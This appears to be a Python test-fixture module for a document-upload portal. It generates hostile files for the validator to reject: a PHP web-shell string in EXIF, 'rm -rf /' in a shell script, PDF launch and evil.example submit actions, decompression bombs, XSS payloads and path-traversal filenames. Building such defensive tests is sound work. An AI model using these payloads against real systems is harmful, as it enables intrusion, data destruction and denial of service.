"""Files that somebody hostile, or somebody unlucky, uploads. Generated, so that nothing nasty is in the repository."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from PIL import Image

from portal.submissions.domain.evidence import MESSAGES, Problem


@dataclass(frozen=True)
class Hostile:
    """A file that must not be taken, and what is to be said of it."""

    name: str
    content: bytes
    problem: Problem

    @property
    def message(self) -> str:
        return MESSAGES[self.problem]


def picture(form: str = "JPEG", size: tuple[int, int] = (320, 240), **options: object) -> bytes:
    """A real photograph of nothing in particular."""
    out = io.BytesIO()
    image = Image.linear_gradient("L").resize(size).convert("RGB")
    image.save(out, form, **options)
    return out.getvalue()


def photo_with_gps() -> bytes:
    """A JPEG that says where it was taken, lying on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6  # turn by 90 degrees
    exif[0x010E] = "<?php system($_GET['c']); ?>"
    exif.get_ifd(0x8825).update({1: "N", 2: (26.0, 35.0, 0.0), 3: "E", 4: (106.0, 42.0, 0.0)})
    return picture(size=(400, 200), exif=exif, comment=b"<script>alert(1)</script>")


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, *, pages: int = 1, **options: object) -> bytes:
    """A PDF of blank pages, perhaps with something in it."""
    document = pikepdf.new()
    for _ in range(pages):
        document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def _action(**values: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary({f"/{key}": value for key, value in values.items()})


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _action(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def _named_script(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(_action(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", action]))


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _action(S=pikepdf.Name.Launch, F="cmd.exe")


def _open_uri(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = _action(S=pikepdf.Name.URI, URI="http://evil.example/")


def _additional(document: pikepdf.Pdf) -> None:
    document.pages[0].AA = pikepdf.Dictionary(O=_action(S=pikepdf.Name.Named, N=pikepdf.Name.Print))


def _annotation(subtype: str, **values: object) -> Callable[[pikepdf.Pdf], None]:
    def change(document: pikepdf.Pdf) -> None:
        found = _action(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9], **values)
        document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(found)]))

    return change


def _submit_form(document: pikepdf.Pdf) -> None:
    action = _action(S=pikepdf.Name.SubmitForm, F="http://evil.example/")
    _annotation("/Link", A=action)(document)


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["rates.xlsm"] = b"PK\x03\x04 macro"


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"), Fields=[])


def _deep(document: pikepdf.Pdf) -> None:
    nest: pikepdf.Object = pikepdf.Array([])
    for _ in range(90):
        nest = pikepdf.Array([nest])
    document.Root.Deep = nest


def _encrypted(**passwords: str) -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner=passwords.get("owner", ""), user=passwords.get("user", ""), R=6))


def png_bomb(width: int, height: int) -> bytes:
    """A small PNG that would be width × height pixels large."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    body = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def _zip(**files: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def stream_bomb() -> bytes:
    """A PDF whose object stream unpacks to more than a gigabyte."""
    size = 1200 * 1024 * 1024
    packer = zlib.compressobj(1)
    blank = b" " * (1024 * 1024)
    packed = packer.compress(b"2 0 ") + b"".join(packer.compress(blank) for _ in range(size // len(blank)))
    packed += packer.compress(b"<</Type/Catalog/Pages 3 0 R>>") + packer.flush()
    parts = [b"%PDF-1.5\n"]
    offset = len(parts[0])
    stream = b"1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    parts.append(stream + packed + b"\nendstream endobj\n")
    pages = offset + len(parts[1])
    parts.append(b"3 0 obj<</Type/Pages/Kids[4 0 R]/Count 1>>endobj\n")
    page = pages + len(parts[2])
    parts.append(b"4 0 obj<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]>>endobj\n")
    table = page + len(parts[3])
    rows = [(0, 0, 0), (1, offset, 0), (2, 1, 0), (1, pages, 0), (1, page, 0), (1, table, 0)]
    entries = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"5 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 2 0 R/Length %d>>stream\n" % len(entries)
    parts.append(head + entries + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % table)
    return b"".join(parts)


def hostile_files() -> list[Hostile]:
    """None of these may be taken."""
    whole_pdf, jpeg, png = pdf(pages=3), picture(), picture("PNG")
    html = b"<!doctype html><script>alert(document.cookie)</script>"
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
    heic = struct.pack(">I", 24) + b"ftypheic" + b"\0" * 200
    return [
        Hostile("empty.jpg", b"", Problem.EMPTY),
        Hostile("polyglot.jpg", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//", Problem.KIND),
        Hostile("page.jpg", html, Problem.KIND),
        Hostile("page.pdf", html, Problem.KIND),
        Hostile("picture.svg", svg, Problem.KIND),
        Hostile("picture.png", svg, Problem.KIND),
        Hostile("script.js.jpg", b"alert(1)", Problem.KIND),
        Hostile("setup.pdf", b"MZ\x90\x00" + b"\0" * 300, Problem.KIND),
        Hostile("program.png", b"\x7fELF\x02\x01\x01" + b"\0" * 300, Problem.KIND),
        Hostile("shell.pdf.sh", b"#!/bin/sh\nrm -rf /\n", Problem.KIND),
        Hostile("animation.gif", picture("GIF"), Problem.KIND),
        Hostile("scan.tiff", picture("TIFF"), Problem.KIND),
        Hostile("picture.bmp", picture("BMP"), Problem.KIND),
        Hostile("picture.webp", picture("WEBP"), Problem.KIND),
        Hostile(
            "eicar.pdf", b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*", Problem.KIND
        ),
        Hostile("photo.heic", heic, Problem.HEIC),
        Hostile("photo.jpg", heic, Problem.HEIC),
        Hostile("papers.zip", _zip(a="b"), Problem.OFFICE),
        Hostile("papers.docx", _zip(word__document="<x/>", **{"[Content_Types].xml": "<Types/>"}), Problem.OFFICE),
        Hostile("macro.xlsm.pdf", _zip(xl__vbaProject="x"), Problem.OFFICE),
        Hostile("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, Problem.OFFICE),
        Hostile("rich.rtf", b"{\\rtf1\\ansi hello}", Problem.OFFICE),
        Hostile("cut.jpg", jpeg[: len(jpeg) // 2], Problem.BROKEN),
        Hostile("cut.png", png[: len(png) // 2], Problem.BROKEN),
        Hostile("head.jpg", b"\xff\xd8\xff\xe0" + b"A" * 500, Problem.BROKEN),
        Hostile("head.png", b"\x89PNG\r\n\x1a\n" + b"A" * 500, Problem.BROKEN),
        Hostile("noise.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 20 + b"\n%%EOF", Problem.BROKEN),
        Hostile("html-and.pdf", html + whole_pdf, Problem.KIND),
        Hostile("blank-and.pdf", b"  \n" + whole_pdf, Problem.BROKEN),
        *(
            Hostile(f"cut-{tenth}.pdf", whole_pdf[: len(whole_pdf) * tenth // 10], Problem.BROKEN)
            for tenth in range(1, 10)
        ),
        Hostile("locked.pdf", _encrypted(user="secret", owner="secret"), Problem.ENCRYPTED),
        Hostile("owner-locked.pdf", _encrypted(owner="secret"), Problem.ENCRYPTED),
        Hostile("script.pdf", pdf(_script), Problem.SCRIPT),
        Hostile("script-named.pdf", pdf(_named_script), Problem.SCRIPT),
        Hostile(
            "script-packed.pdf",
            pdf(_named_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
            Problem.SCRIPT,
        ),
        Hostile("launch.pdf", pdf(_launch), Problem.LAUNCH),
        Hostile("open-link.pdf", pdf(_open_uri), Problem.LAUNCH),
        Hostile("page-action.pdf", pdf(_additional), Problem.LAUNCH),
        Hostile("submit.pdf", pdf(_submit_form), Problem.LAUNCH),
        Hostile("attached.pdf", pdf(_embedded), Problem.ATTACHMENT),
        Hostile("clip.pdf", pdf(_annotation("/FileAttachment")), Problem.ATTACHMENT),
        Hostile("form.pdf", pdf(_xfa), Problem.XFA),
        Hostile("film.pdf", pdf(_annotation("/RichMedia")), Problem.MEDIA),
        Hostile("deep.pdf", pdf(_deep), Problem.TOO_HARD),
        Hostile("long.pdf", pdf(pages=101), Problem.TOO_MANY_PAGES),
        Hostile("empty-pages.pdf", pdf(pages=0), Problem.BROKEN),
        Hostile("bomb.png", png_bomb(30_000, 30_000), Problem.TOO_MANY_PIXELS),
        Hostile("wide.png", png_bomb(60_000, 1_000), Problem.TOO_MANY_PIXELS),
        Hostile("huge.jpg", jpeg + b"\0" * (10 * 1024 * 1024), Problem.TOO_LARGE),
    ]


NASTY_NAMES = {
    "../../etc/passwd.jpg": "passwd.jpg",
    "..\\..\\windows\\win.ini.jpg": "win.ini.jpg",
    "/etc/shadow": "shadow",
    "a\x00b.jpg": "ab.jpg",
    "<script>alert(1)</script>.jpg": "script_.jpg",
    '"; filename="evil.html': "filename=_evil.html",
    "报告\r\nSet-Cookie: a=b.jpg": "报告Set-Cookie_a=b.jpg",
    "gpj.\u202efdp.exe": "gpj.fdp.exe",
    "...": "evidence",
    "陈晓燕_520102198001011234_毕业证.jpg": "陈晓燕_520___________1234_毕业证.jpg",
    "x" * 300 + ".jpg": "x" * 74 + ".jpg",
    "CON": "CON",
}
